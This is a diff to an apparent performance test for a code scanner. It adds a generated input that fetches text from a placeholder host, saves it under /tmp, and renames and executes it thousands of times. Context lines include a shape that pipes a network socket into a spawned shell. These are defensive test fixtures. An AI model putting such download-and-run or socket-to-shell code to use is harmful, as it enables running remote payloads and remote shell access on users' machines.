@@ -9,7 +9,7 @@ import { tuneForScanning } from "@/scanner/scanner-process";
 // (each shape once made one of them take seconds to minutes: a lazy comment body, a run of `{`,
 // `(`, `[`, repeated placeholders in a DNS name, a repeated browser folder, a run of a key's
 // characters, chmod's options after saved downloads, Windows' downloaders without a URL; constants named over and over, which name
-// searches once explored path by path; write streams under one name, each followed through its uses; members piped into a process on every line), or its value decoding build gigabytes (constants doubled and decoded), analysed
+// searches once explored path by path; write streams under one name, each followed through its uses; members piped into a process on every line; a saved download moved on and run thousands of times), or its value decoding build gigabytes (constants doubled and decoded), analysed
 // whole (every code rule, then every text rule) at two sizes, against a bare parse of the same
 // file measured in the same run. Linear work keeps the ratio to the parse
 // flat and the growth near the sizes' ratio (10); backtracking shows as both climbing.
@@ -45,6 +45,12 @@ const SHAPES: Record<string, (n: number) => string> = {
   },
   // Write streams declared under one name thousands of times, in a file that spawns (a search of the saved downloads a spawn may run).
   "write streams under one name": (n) => `const fs = require("fs");\nrequire("child_process").spawn("./x");\n${lines('var out = fs.createWriteStream("x"); out.write(1);\n', n)}`,
+  // A saved download moved from name to name thousands of times, each name run (each spawn compared with the saved downloads).
+  "saved downloads moved on": (n) => {
+    let text = 'const fs = require("fs");\nconst cp = require("child_process");\nasync function f() {\nfs.writeFileSync("/tmp/a0", await (await fetch("https://x.example/")).text());\n';
+    for (let j = 0; text.length < n; j++) text += `fs.renameSync("/tmp/a${j}", "/tmp/a${j + 1}"); cp.execFileSync("/tmp/a${j + 1}");\n`;
+    return `${text}}\n`;
+  },
   // An instance's member piped into a process kept in another on every line (each a search of the members' assignments).
   "members piped into a process": (n) => `this.sh = require("child_process").spawn("sh");\nthis.s = require("net").connect(1, "h");\n${lines("this.s.pipe(this.sh.stdin);\n", n)}`,
 };
